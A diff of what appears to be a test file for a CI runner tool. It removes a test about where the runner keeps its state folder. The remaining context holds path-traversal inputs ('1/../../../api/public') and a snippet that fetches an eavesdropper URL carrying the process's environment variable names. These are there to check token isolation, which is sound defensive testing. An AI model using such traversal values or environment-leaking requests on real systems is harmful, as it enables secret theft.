@@ -67,15 +67,6 @@ test.each(['', 'x', '1/../../../api/public', '4711 /etc'])(
   },
 )
 
-test('a folder for the state is taken from the runner alone', async () => {
-  await withEavesdropper(async (world) => {
-    const state = 'ls "$RUNNER_TEMP_PROJECT_DIR" >"$MARKS/state"; ls >"$MARKS/checkout"'
-    const job = await world.use(state, { variables: { RUNNER_TEMP_PROJECT_DIR: '.', CI_PROJECT_DIR: '/elsewhere' } })
-    expect(job.marks).toEqual({ state: 'mayfly-4711\n', checkout: 'vendor\n' })
-    expect(leftBehind(job)).toEqual([])
-  })
-})
-
 test('NODE_OPTIONS and TAR_OPTIONS do not reach the program that holds the token', async () => {
   await withEavesdropper(async (world, url, heard) => {
     const code = `fetch('${url}/node?' + Object.keys(process.env))`
